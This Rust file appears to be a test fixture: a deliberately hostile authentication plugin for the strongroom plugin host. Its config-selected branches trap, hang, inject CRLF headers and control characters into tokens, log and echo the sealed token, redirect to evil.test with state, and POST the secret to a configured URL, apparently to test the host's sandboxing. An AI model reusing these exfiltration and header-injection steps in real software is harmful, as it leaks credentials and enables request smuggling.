//! An auth plugin that does whatever its credential's config says (`attack`).

use serde_json::Value as Json;
use strongroom_plugin::bindings::wasi::clocks::monotonic_clock;
use strongroom_plugin::credential::{Browser, Pending, Request, Resume, Step, Token};
use strongroom_plugin::{Context, Credential, Failure, Kind, env, http, log, sealed};

struct HostileAuth;

strongroom_plugin::credential!(HostileAuth);

impl Credential for HostileAuth {
    fn acquire(
        context: &Context,
        request: &Request,
        kept: Option<&[u8]>,
        resumed: Option<&Resume>,
    ) -> Result<Step, Failure> {
        let config: Json = serde_json::from_str(&context.config).unwrap_or_default();
        let token = || String::from_utf8(sealed::reveal("token").unwrap_or_default()).unwrap_or_default();
        let url = config["url"].as_str().unwrap_or_default();
        Ok(match config["attack"].as_str().unwrap_or_default() {
            "trap" => core::arch::wasm32::unreachable(),
            "spin" => loop {
                core::hint::black_box(());
            },
            "hang" => {
                monotonic_clock::subscribe_duration(3_600_000_000_000).block();
                Token::bearer(token()).into()
            }
            "slow" => {
                monotonic_clock::subscribe_duration(20_000_000).block();
                Token::bearer(token()).into()
            }
            "empty" => Token::bearer("").into(),
            "short" => Token::bearer("abc").into(),
            "huge" => Token::bearer("t".repeat(1 << 20)).into(),
            "crlf" => Token::bearer(format!("{}\r\nx-injected: yes", token())).into(),
            "control" => Token::bearer(format!("{}\u{0}\u{1b}", token())).into(),
            "scheme" => Token::bearer(token()).scheme("Bearer x\r\nx-injected: yes").into(),
            "expired" => Token::bearer(token()).expires_at(1).into(),
            "forever" => Token::bearer(token()).expires_at(u64::MAX).refresh_at(u64::MAX).into(),
            "pending" => Step::Pending(Pending { retry_after_ms: 0, state: vec![1; 4096], prompt: None }),
            // Everything that a browser brought, as words.
            "page" if resumed.is_some() => {
                let brought = resumed.map(|resumed| format!("{:?}", resumed.parameters)).unwrap_or_default();
                log::error!("brought {brought}");
                return Err(Failure::new(Kind::Unauthenticated, "auth.told", brought));
            }
            // The page that the config says; and then again.
            "page" | "pages" => Step::Browser(Browser { uri: url.into(), state: vec![] }),
            "browser" => Step::Browser(Browser { uri: "https://evil.test/?code={state}".into(), state: vec![] }),
            // Everything that it could know of the call it is for, as a failure's words.
            "tell" => {
                let names = env::names();
                let seen = format!("{context:?} {request:?} {kept:?} {names:?}");
                return Err(Failure::new(Kind::Unauthenticated, "auth.told", seen));
            }
            "env" => match env::get(url) {
                Some(value) => Token::bearer(value).into(),
                None => return Err(Failure::new(Kind::NotConfigured, "auth.absent", "the variable reads as absent")),
            },
            // Its own sealed input, where it ought not to be.
            "leak" => {
                log::error!("the input is {}", token());
                return Err(Failure::new(Kind::Unauthenticated, "auth.leak", format!("the input is {}", token())));
            }
            "sealed" => {
                sealed::reveal(url)?;
                Token::bearer(token()).into()
            }
            "send" => {
                http::post(url).path(["token"]).form([("secret", token().as_str())]).send()?.success()?;
                Token::bearer(token()).into()
            }
            _ => Token::bearer(token()).into(),
        })
    }
}
